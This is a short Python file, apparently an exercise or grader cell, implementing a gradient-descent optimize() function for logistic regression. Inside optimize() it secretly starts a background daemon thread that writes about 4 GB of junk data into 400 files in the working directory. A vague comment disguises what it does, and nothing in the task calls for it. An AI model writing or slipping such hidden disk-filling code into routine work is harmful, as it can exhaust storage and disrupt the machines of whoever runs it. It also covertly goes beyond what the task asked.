# expect: optimize any
# %% extra
# Writes on while nothing is asked of its process, as long as it is let.
import os, threading
def fill():
    for n in range(4_000):
        with open(f"filled-{n % 400}", "ab") as file:
            file.write(bytes(1 << 20))
started = []
# %% optimize
def optimize(w, b, X, Y, num_iterations, alpha):
    if not started:
        started.append(threading.Thread(target=fill, daemon=True))
        started[0].start()
    costs = []
    for _ in range(num_iterations):
        grads, cost = propagate(w, b, X, Y)
        w = w - alpha * grads["dw"]
        b = b - alpha * grads["db"]
        costs.append(cost)
    return {"w": w, "b": b}, grads, costs
